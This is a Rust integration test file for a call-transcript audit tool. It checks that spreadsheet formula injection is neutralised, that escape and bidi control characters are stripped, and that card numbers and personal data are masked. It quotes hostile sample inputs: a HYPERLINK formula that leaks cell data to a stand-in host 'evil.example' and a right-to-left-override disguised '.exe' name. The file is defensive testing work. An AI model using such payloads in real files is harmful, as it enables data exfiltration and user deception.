//! Hostile transcript text, through the real binary: formula injection in every CSV output,
//! escape sequences kept off the terminal, card numbers always masked, `--redact` for the rest.
//!
//! `tests/fixtures/hostile.csv` has an agent id `=HYPERLINK(...)`, a turn starting with
//! `=HYPERLINK(...)`, turns starting with `@`, `-` and `+`, an agent id and a turn carrying
//! CSI/OSC escape sequences and a bell, two card numbers (Visa test number with spaces and with
//! dashes, a Mastercard test number), an e-mail address, a phone number and an 8-digit reference.

use super::common;
use std::path::PathBuf;

const HOSTILE: &str = "tests/fixtures/hostile.csv";

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn run(args: &[&str]) -> (String, String) {
    let out = common::callaudit()
        .current_dir(root())
        .args(args)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

/// Every cell of a CSV text, parsed as a spreadsheet would read the file.
fn cells(text: &str) -> Vec<String> {
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    rdr.records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect()
}

fn assert_no_formula(name: &str, text: &str) {
    for cell in cells(text) {
        if cell.parse::<f64>().is_ok() {
            continue; // our own numbers (a negative change is a number, not a formula)
        }
        let first = cell.chars().next();
        assert!(
            !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
            "{name}: formula cell {cell:?}"
        );
    }
}

#[test]
fn every_csv_output_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let evidence = dir.path().join("evidence.csv");
    let calls = dir.path().join("calls.csv");
    let (report, _) = run(&[
        "audit",
        HOSTILE,
        "--format",
        "csv",
        "-q",
        "--evidence",
        evidence.to_str().unwrap(),
        "--calls",
        calls.to_str().unwrap(),
    ]);
    let evidence = std::fs::read_to_string(evidence).unwrap();
    let calls = std::fs::read_to_string(calls).unwrap();
    for (name, text) in [
        ("report", &report),
        ("evidence", &evidence),
        ("per-call", &calls),
    ] {
        assert_no_formula(name, text);
        assert!(
            cells(text)
                .iter()
                .any(|c| c == "'=HYPERLINK(\"http://evil.example\",\"ann\")"),
            "{name}: the agent id comes out neutralised"
        );
        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{name}");
    }
    // The turn that starts with a formula, as an analyst's spreadsheet receives it.
    assert!(
        cells(&evidence)
            .iter()
            .any(|c| c.starts_with("'=HYPERLINK(\"http://evil.example/?leak=\"&A1")),
        "{evidence}"
    );
    insta::assert_snapshot!("hostile_evidence", evidence);
}

#[test]
fn escape_sequences_never_reach_the_terminal() {
    for format in ["table", "markdown"] {
        let (out, err) = run(&["audit", HOSTILE, "--format", format, "--color", "never"]);
        assert!(
            !out.contains('\x1b') && !out.contains('\x07'),
            "{format}: {out:?}"
        );
        assert!(!err.contains('\x1b'), "{format} stderr: {err:?}");
        assert!(
            out.contains("escred"),
            "{format}: the id without its escapes"
        );
    }
    let (out, _) = run(&["audit", HOSTILE, "--format", "html"]);
    assert!(!out.contains('\x1b') && !out.contains('\x07'));
    // JSON escapes control characters itself.
    let (out, _) = run(&["audit", HOSTILE, "--format", "json"]);
    assert!(!out.contains('\x1b'));
    for call in ["H-1", "H-2"] {
        let (out, _) = run(&["explain", HOSTILE, "--call", call, "--color", "never"]);
        assert!(
            !out.contains('\x1b') && !out.contains('\x07'),
            "{call}: {out:?}"
        );
    }
    // With colour, the only escapes are our own SGR sequences: no clear-screen, no title.
    let (out, _) = run(&["explain", HOSTILE, "--call", "H-2", "--color", "always"]);
    assert!(
        !out.contains("\x1b[2J") && !out.contains("\x1b]0;"),
        "{out:?}"
    );
    let (out, _) = run(&["audit", HOSTILE, "--color", "always", "-q"]);
    assert!(!out.contains("\x1b[2J") && !out.contains("\x1b]0;") && !out.contains('\x07'));
}

#[test]
fn card_numbers_are_always_masked() {
    let dir = tempfile::tempdir().unwrap();
    let evidence = dir.path().join("evidence.csv");
    let jsonl = dir.path().join("calls.jsonl");
    run(&[
        "audit",
        HOSTILE,
        "-q",
        "--evidence",
        evidence.to_str().unwrap(),
        "--calls",
        jsonl.to_str().unwrap(),
    ]);
    let (explain_h1, _) = run(&["explain", HOSTILE, "--call", "H-1", "--color", "never"]);
    let (explain_h2, _) = run(&["explain", HOSTILE, "--call", "H-2", "--color", "never"]);
    let (explain_json, _) = run(&["explain", HOSTILE, "--call", "H-2", "--format", "json"]);
    for (name, text) in [
        ("evidence", std::fs::read_to_string(&evidence).unwrap()),
        ("per-call jsonl", std::fs::read_to_string(&jsonl).unwrap()),
        ("explain H-1", explain_h1.clone()),
        ("explain H-2", explain_h2.clone()),
        ("explain json", explain_json),
    ] {
        for card in ["4111", "5555 5555", "5555555555554444"] {
            assert!(!text.contains(card), "{name} shows {card}: {text}");
        }
    }
    assert!(
        explain_h1.contains("It's **** **** **** ****, expiry 12/27"),
        "{explain_h1}"
    );
    assert!(
        explain_h1.contains("card ****-****-****-****"),
        "{explain_h1}"
    );
    assert!(
        explain_h2.contains("Card **** **** **** ****."),
        "{explain_h2}"
    );
    // Without --redact, the rest stays readable.
    assert!(explain_h1.contains("jane.doe@example.com"));
    assert!(explain_h1.contains("88412345"));
}

#[test]
fn redact_masks_digit_runs_emails_and_phones() {
    let dir = tempfile::tempdir().unwrap();
    let evidence = dir.path().join("evidence.csv");
    run(&[
        "audit",
        HOSTILE,
        "-q",
        "--redact",
        "--evidence",
        evidence.to_str().unwrap(),
    ]);
    let (explain, _) = run(&[
        "explain", HOSTILE, "--call", "H-1", "--color", "never", "--redact",
    ]);
    let evidence = std::fs::read_to_string(&evidence).unwrap();
    for (name, text) in [("evidence", &evidence), ("explain", &explain)] {
        for secret in ["88412345", "jane.doe", "example.com", "123-4567", "4111"] {
            assert!(!text.contains(secret), "{name} shows {secret}: {text}");
        }
    }
    assert!(explain.contains("****.***@*******.***"), "{explain}");
    assert!(explain.contains("(***) ***-****"), "{explain}");
    assert!(evidence.contains("reference ********"), "{evidence}");
    // Highlighting still lands on the right words in masked text.
    assert!(explain.contains("[[sorry]]{apology}"), "{explain}");
}

/// A CSV of `rows` (call_id, agent_id, speaker, text) in a fresh directory.
fn csv_file(dir: &std::path::Path, rows: &[(&str, &str, &str, &str)]) -> PathBuf {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["call_id", "agent_id", "speaker", "text"])
        .unwrap();
    for r in rows {
        w.write_record([r.0, r.1, r.2, r.3]).unwrap();
    }
    let path = dir.join("calls.csv");
    std::fs::write(&path, w.into_inner().unwrap()).unwrap();
    path
}

#[test]
fn card_numbers_are_masked_whatever_separates_their_groups() {
    // Visa, Mastercard and Amex test numbers, read out or typed every way.
    let cards = [
        "4111\n1111\n1111\n1111",
        "4111  1111  1111  1111",
        "5555 - 5555 - 5555 - 4444",
        "3782--822463--10005",
        "4111.1111.1111.1111",
        "5555/5555/5555/4444",
        "4111\u{200B}1111\u{200B}1111\u{200B}1111",
        "5555\u{2009}5555\u{2009}5555\u{2009}4444",
        "4111\u{00AD}1111\u{00AD}1111\u{00AD}1111",
        "5555\u{2013}5555\u{2013}5555\u{2013}4444",
        "４１１１ １１１１ １１１１ １１１１",
        "５５５５５５５５５５５５４４４４",
    ];
    let dir = tempfile::tempdir().unwrap();
    let rows: Vec<(String, &str)> = cards
        .iter()
        .map(|c| (format!("I am sorry, card {c} was declined."), *c))
        .collect();
    let mut table: Vec<(&str, &str, &str, &str)> = vec![(
        "C-1",
        "ann",
        "customer",
        "This is ridiculous, charge me again",
    )];
    for (text, _) in &rows {
        table.push(("C-1", "ann", "agent", text));
    }
    let input = csv_file(dir.path(), &table);
    let input = input.to_str().unwrap();
    let evidence = dir.path().join("evidence.csv");
    let jsonl = dir.path().join("calls.jsonl");
    run(&[
        "audit",
        input,
        "-q",
        "--evidence",
        evidence.to_str().unwrap(),
        "--calls",
        jsonl.to_str().unwrap(),
    ]);
    let (explain, _) = run(&["explain", input, "--call", "C-1", "--color", "never"]);
    let (explain_json, _) = run(&["explain", input, "--call", "C-1", "--format", "json"]);
    let evidence = std::fs::read_to_string(&evidence).unwrap();
    assert_eq!(
        evidence.matches(",sorry,").count(),
        cards.len(),
        "one apology per card turn: {evidence}"
    );
    for (name, text) in [
        ("evidence", &evidence),
        ("per-call jsonl", &std::fs::read_to_string(&jsonl).unwrap()),
        ("explain", &explain),
        ("explain json", &explain_json),
    ] {
        // No group of any card is left readable.
        for group in [
            "4111",
            "1111",
            "5555",
            "4444",
            "3782",
            "822463",
            "10005",
            "４１１１",
            "１１１１",
            "５５５５",
        ] {
            assert!(!text.contains(group), "{name} shows {group}:\n{text}");
        }
    }
    assert!(explain.contains("card ****\u{2013}****\u{2013}****\u{2013}****"));
    assert!(explain.contains("card ＊＊＊＊ ＊＊＊＊ ＊＊＊＊ ＊＊＊＊ was"));
    // Highlighting still lands on the right words in masked text.
    assert!(explain.contains("[[sorry]]{apology}"), "{explain}");
}

#[test]
fn bidi_controls_never_reach_a_report_or_explain() {
    let bidi = [
        '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
        '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}', '\u{061C}',
    ];
    let dir = tempfile::tempdir().unwrap();
    let agent = "ann\u{202E}txt.exe\u{202C}";
    let input = csv_file(
        dir.path(),
        &[
            (
                "C-\u{2067}1",
                agent,
                "customer",
                "This is \u{202E}ridiculous\u{202C}!!!",
            ),
            (
                "C-\u{2067}1",
                agent,
                "agent",
                "I am so sorry\u{2066} about\u{2069} that.",
            ),
        ],
    );
    let input = input.to_str().unwrap();
    let mut outputs = Vec::new();
    for format in ["table", "markdown", "csv", "html"] {
        let (out, err) = run(&["audit", input, "--format", format, "--color", "never"]);
        assert!(out.contains("anntxt.exe"), "{format}: {out}");
        outputs.push((format.to_string(), out + &err));
    }
    let (out, err) = run(&[
        "explain",
        input,
        "--call",
        "C-\u{2067}1",
        "--color",
        "never",
    ]);
    assert!(out.contains("This is ridiculous!!!"), "{out}");
    outputs.push(("explain".into(), out + &err));
    for (name, text) in outputs {
        for c in bidi {
            assert!(!text.contains(c), "{name} has U+{:04X}: {text:?}", c as u32);
        }
    }
}

#[test]
fn evidence_quotes_a_window_of_a_long_turn_not_the_whole_turn_per_match() {
    // One long turn with hundreds of apologies, and card numbers between them that any window
    // may cut through.
    let mut turn = String::new();
    for i in 0..400 {
        turn.push_str(&format!(
            "I am sorry about order number {i}, {} that is on card 4111 1111 1111 1111. ",
            "it was late again and".repeat(i % 5)
        ));
    }
    let dir = tempfile::tempdir().unwrap();
    let input = csv_file(
        dir.path(),
        &[
            ("C-1", "ann", "customer", "This is ridiculous!!!"),
            ("C-1", "ann", "agent", &turn),
        ],
    );
    let evidence = dir.path().join("evidence.csv");
    run(&[
        "audit",
        input.to_str().unwrap(),
        "-q",
        "--evidence",
        evidence.to_str().unwrap(),
    ]);
    let text = std::fs::read_to_string(&evidence).unwrap();
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let apologies: Vec<&csv::StringRecord> = rows.iter().filter(|r| &r[2] == "apology").collect();
    assert_eq!(apologies.len(), 400);
    for r in &rows {
        let (matched, context) = (&r[7], &r[8]);
        // A bounded window around the match: 200 characters either side at most, the match
        // itself at most 400, and the cut marks.
        assert!(context.chars().count() <= 200 + 400 + 200 + 5, "{context}");
        assert!(context.contains(matched), "{matched} in {context}");
    }
    for r in &apologies {
        assert!(r[8].starts_with('…') || r[8].starts_with("I am sorry about order number 0,"));
    }
    // The file grows with the matches, not matches times the turn's length (~70 KB).
    assert!(
        text.len() < 400 * 1000,
        "evidence of {} bytes for a {} byte turn",
        text.len(),
        turn.len()
    );
    // No window shows a piece of a card number, wherever it cut.
    for group in ["4111", "1111", "411", "111 "] {
        assert!(!text.contains(group), "{group}");
    }
}
